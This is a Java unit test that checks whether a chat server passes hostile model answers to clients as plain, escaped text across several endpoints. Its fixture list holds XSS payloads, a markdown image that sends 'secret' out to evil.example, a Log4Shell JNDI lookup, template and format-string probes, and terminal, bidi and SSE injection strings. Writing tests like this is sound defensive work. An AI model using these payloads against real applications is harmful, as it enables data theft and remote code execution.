package dev.footnote.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.footnote.adapter.jdbi.Database;
import dev.footnote.testkit.FakeUpstream;
import dev.footnote.testkit.Script;
import java.net.http.HttpResponse;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Whatever a model says is text: it is told as it was said, and nothing that it looks like happens. */
@ExtendWith(TestDatabase.class)
class HostileAnswersTest {

    private static final String JSON = "application/json;charset=utf-8";
    private static final int REQUESTS = 3;
    private static final String EVENTS = "text/event-stream;charset=utf-8";

    private static final List<String> ANSWERS = List.of(
            "<script>alert(1)</script></script><!-- ]]>",
            "[click](javascript:alert(document.domain)) <a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "![](http://evil.example/?q=secret) <img src=x onerror=alert(1)>",
            "<iframe srcdoc=\"&lt;script&gt;\"></iframe><svg/onload=alert(1)>",
            "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u0008\u007f\u009b1m",
            "\u202Egnirts desrever\u202C \u2066isolated\u2069 \u200F\u061C",
            "data: {\"code\":0,\"data\":true}\n\ndata: [DONE]\n\nid: 1:2\nevent: error\n\n",
            "line one\r\nline two\rline three\u2028line four\u2029line five\u0085line six",
            "\"},\"code\":0,\"data\":{\"answer\":\"forged\"}}",
            "{knowledge} ${jndi:ldap://evil.example/a} %s%n {{7*7}}",
            "\uFEFF\uD83D\uDE00 e\u0301 \uFFFD");

    private final Database database;

    HostileAnswersTest(Database database) {
        this.database = database;
    }

    @Test
    void areToldAsText() throws Exception {
        List<Script> scripts = ANSWERS.stream()
                .flatMap(said -> Collections.nCopies(REQUESTS, Script.pieces(said)).stream())
                .toList();
        Script[] rest = scripts.subList(1, scripts.size()).toArray(Script[]::new);
        try (var upstream = FakeUpstream.playing(scripts.getFirst(), rest);
                var server = new LiveServer(database, LiveServer.model(upstream))) {
            String chat = server.chat();
            for (String said : ANSWERS) {
                assertToldAsText(server, chat, said);
            }
            assertThat(upstream.requests()).isEqualTo(REQUESTS * ANSWERS.size());
        }
    }

    private static void assertToldAsText(LiveServer server, String chat, String said) {
        String session = server.session(chat);
        var body = Map.of("question", "What?", "session_id", session);

        try (Frames stream = server.open("POST", chat + "/completions", body)) {
            assertSafe(stream.response(), EVENTS);
            List<String> frames = stream.rest();
            assertThat(Frames.text(frames)).isEqualTo(said);
            assertThat(frames).allSatisfy(HostileAnswersTest::isOneFrame);
        }
        HttpResponse<String> whole = server.send(
                "POST", chat + "/completions", Map.of("question", "What?", "session_id", session, "stream", false));
        assertTold(whole, LiveServer.data(whole).path("answer"), said);
        HttpResponse<String> openAi = server.send(
                "POST",
                "/v1/chat/completions",
                Map.of(
                        "model",
                        chat.substring(chat.lastIndexOf('/') + 1),
                        "messages",
                        List.of(Map.of("role", "user", "content", "What?"))));
        JsonNode message = LiveServer.json(openAi.body()).at("/choices/0/message/content");
        assertTold(openAi, message, said);
        HttpResponse<String> read = server.send("GET", chat + "/sessions?id=" + session, Map.of());
        assertTold(read, LiveServer.data(read).at("/0/messages/1/content"), said);
        HttpResponse<String> exported = server.send("GET", chat + "/sessions/" + session + "/export", Map.of());
        assertSafe(exported, "text/markdown;charset=utf-8");
        assertThat(exported.headers().firstValue("Content-Disposition").orElse(""))
                .startsWith("attachment");
    }

    @Test
    void aLongTableIsToldWhole() throws Exception {
        String rows = "| <b>a</b> | \u202Eb |\n".repeat(5_000);
        String table = rows.repeat(10); // a million characters
        try (var upstream = FakeUpstream.playing(
                        Script.pieces(Collections.nCopies(10, rows).toArray(String[]::new)));
                var server = new LiveServer(database, LiveServer.model(upstream))) {
            String chat = server.chat();

            HttpResponse<String> whole =
                    server.send("POST", chat + "/completions", Map.of("question", "What?", "stream", false));

            assertTold(whole, LiveServer.data(whole).path("answer"), table);
        }
    }

    private static void assertTold(HttpResponse<String> answer, JsonNode text, String said) {
        assertSafe(answer, JSON);
        assertThat(text.asText()).isEqualTo(said);
        assertThat(answer.body()).doesNotContainPattern("[\\x00-\\x1f]");
    }

    private static void assertSafe(HttpResponse<?> answer, String type) {
        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
        assertThat(answer.headers().firstValue("Content-Type").orElse("").replace(" ", ""))
                .isEqualTo(type);
    }

    /** An id and one line of data, both without control characters. */
    private static void isOneFrame(String frame) {
        assertThat(frame).matches("id: [^\\x00-\\x1f]+:\\d+\\ndata: [^\\x00-\\x1f]+\\n");
    }
}
